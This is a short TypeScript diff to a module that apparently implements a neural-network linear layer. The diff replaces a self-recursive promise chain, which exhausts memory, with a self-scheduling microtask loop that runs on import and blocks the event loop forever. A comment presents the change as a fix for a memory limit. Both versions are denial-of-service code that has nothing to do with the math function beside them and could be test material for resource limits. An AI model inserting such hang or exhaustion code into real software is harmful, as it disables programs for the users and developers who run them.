@@ -3,8 +3,11 @@
 import * as np from 'np';
 import type { NDArray } from 'np';
 
-const again = (): Promise<void> => Promise.resolve().then(again);
-void again();
+// Each job leaves nothing behind for the next: a chain of promises that wait for one another would end in memory-limit.
+const again = (): void => {
+  void Promise.resolve().then(again);
+};
+again();
 
 export function linear_forward(A: NDArray, W: NDArray, b: NDArray) {
   return [np.add(np.dot(W, A), b), [A, W, b]];
